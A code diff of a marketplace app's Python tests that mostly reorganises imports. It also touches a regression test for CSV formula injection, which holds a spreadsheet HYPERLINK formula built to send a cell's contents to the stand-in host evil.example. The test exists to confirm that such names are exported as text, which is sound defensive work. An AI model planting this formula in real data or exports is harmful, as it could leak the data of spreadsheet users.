@@ -14,7 +14,8 @@ import pytest
 from sqlalchemy import select
 
 from marketplace.messaging.models import ContactEvent, Conversation, ConversationMessage
-from tests.factories import app_session, make_listing, post, text_of
+from tests.clients import app_session, post, text_of
+from tests.factories import make_listing
 from tests.integration.messaging.support import CLUB_PHONE, browser, say, start_thread
 
 
@@ -180,7 +181,7 @@ def test_admins_see_the_counts(app, people):
 def test_a_name_that_is_a_formula_is_written_as_text(app, people, october):
     """Issue #14: a club named like a spreadsheet formula landed raw in the staff CSV."""
     from marketplace.accounts.models import Organization
-    from tests.factories import app_session
+    from tests.clients import app_session
 
     formula = '=HYPERLINK("http://evil.example/?d="&B2,"Xem")'
     with app_session(app) as session:
